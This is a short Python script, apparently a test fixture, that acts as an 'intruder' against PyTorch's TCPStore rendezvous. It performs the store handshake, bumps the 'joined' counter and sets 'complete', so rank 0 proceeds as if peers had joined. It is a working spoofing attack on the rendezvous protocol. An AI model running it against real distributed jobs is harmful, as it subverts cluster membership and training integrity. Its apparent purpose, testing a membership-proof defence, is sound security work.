"""An intruder with nothing but the standard library: two TCPStore requests.

It adds 1 to the job's ``joined`` counter and sets ``complete`` — enough, before membership
proofs, to let rank 0 past the rendezvous into ``init_process_group``.

    python stdlib_client.py PORT PREFIX
"""

from __future__ import annotations

import socket
import struct
import sys
import time

VALIDATE, SET, ADD = 0, 1, 4
MAGIC = 0x3C85F7CE  # torch's TCPStore handshake


def _string(text: str) -> bytes:
    data = ("/" + text).encode()  # torch's clients put "/" before every key
    return struct.pack("<Q", len(data)) + data


def connect(port: int, timeout: float = 10) -> socket.socket | None:
    """A connection to the store on ``port`` that has passed torch's handshake, once the store
    listens (within 30 s), or None."""
    for _ in range(600):
        try:
            connection = socket.create_connection(("127.0.0.1", port), timeout=timeout)
            break
        except OSError:
            time.sleep(0.05)
    else:
        return None
    connection.sendall(struct.pack("<BI", VALIDATE, MAGIC))
    return connection


def main() -> int:
    port, prefix = int(sys.argv[1]), sys.argv[2]
    connection = connect(port)
    if connection is None:
        return 3
    with connection:
        connection.sendall(
            struct.pack("<B", ADD) + _string(prefix + "joined") + struct.pack("<q", 1)
        )
        (count,) = struct.unpack("<q", connection.recv(8))
        data = b"1"
        connection.sendall(
            struct.pack("<B", SET) + _string(prefix + "complete") + struct.pack("<Q", 1) + data
        )
        print(f"stdlib client: joined is now {count}, complete set", flush=True)
        time.sleep(1)
    return 0


if __name__ == "__main__":
    sys.exit(main())
